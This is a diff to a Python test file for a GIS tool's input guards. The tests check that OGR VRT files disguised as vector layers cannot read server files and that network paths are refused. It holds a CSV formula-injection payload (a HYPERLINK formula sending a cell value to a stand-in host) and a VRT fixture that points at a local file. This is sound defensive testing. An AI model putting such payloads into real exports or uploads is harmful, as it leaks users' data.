@@ -25,8 +25,12 @@ from anzhi.core.errors import (MAX_LISTED_PROBLEMS, DataSourceError, InputError,
 from anzhi.core.settings import override
 from anzhi.core.files import check_outputs_apart
 from layers.export import FORMULA_STARTS, csv_safe, write_outputs
+from layers.boundaries import read_polygons
+from layers.facilities import read_facilities
+from layers.guard import check_vector_file
 from layers.raster import check_dem
-from layers.terrain import write_slope
+from layers.sites import read_sites
+from layers.terrain import read_parcels, write_slope
 from tests.layers.test_export import results  # noqa: F401  (the fixture)
 
 HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
@@ -177,3 +181,43 @@ def test_a_sparse_huge_dem_is_refused_before_reading(tmp_path: Path) -> None:
     assert not (tmp_path / "slope.tif").exists()
     with override(max_raster_pixels=4 * 10**10):  # the limit can be raised
         assert check_dem(path).width == 200_000
+
+
+# --------------------------------------------------------------------------- vector layers
+
+
+def _ogr_vrt(target: Path) -> str:
+    return (f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>CSV:{target}</SrcDataSource>'
+            '</OGRVRTLayer></OGRVRTDataSource>')
+
+
+@pytest.mark.parametrize("name", ["sites.geojson", "sites.gpkg", "sites.shp"])
+def test_an_ogr_vrt_disguised_as_a_layer_reads_no_server_file(tmp_path: Path, name: str) -> None:
+    secret = tmp_path / "secret.csv"
+    secret.write_text("line\nMARKER-LINE-42\n", encoding="utf-8")
+    path = tmp_path / name
+    path.write_text(_ogr_vrt(secret), encoding="utf-8")
+    for read in (read_sites, read_facilities, read_parcels,
+                 lambda p: read_polygons(p, what="township boundaries")):
+        with pytest.raises(DataSourceError, match="the file is not a") as info:
+            read(path)
+        assert "MARKER" not in str(info.value)
+
+
+def test_the_vector_guard_can_fail_open(tmp_path: Path) -> None:
+    # the same VRT under its own name is refused as an unknown format, and a real GeoJSON passes
+    secret = tmp_path / "secret.csv"
+    secret.write_text("line\nMARKER-LINE-42\n", encoding="utf-8")
+    (tmp_path / "x.vrt").write_text(_ogr_vrt(secret), encoding="utf-8")
+    with pytest.raises(DataSourceError, match="must be one of"):
+        check_vector_file(tmp_path / "x.vrt", what="table")
+    good = tmp_path / "ok.geojson"
+    good.write_text('\ufeff {"type": "FeatureCollection", "features": []}', encoding="utf-8")
+    assert check_vector_file(good, what="table") == "GeoJSON"
+
+
+@pytest.mark.parametrize("uri", ["/vsicurl/http://127.0.0.1:9/sites.geojson",
+                                 "http://127.0.0.1:9/sites.geojson"])
+def test_network_layer_paths_are_refused(uri: str) -> None:
+    with pytest.raises(DataSourceError, match="virtual and network paths are not read"):
+        check_vector_file(uri, what="table")
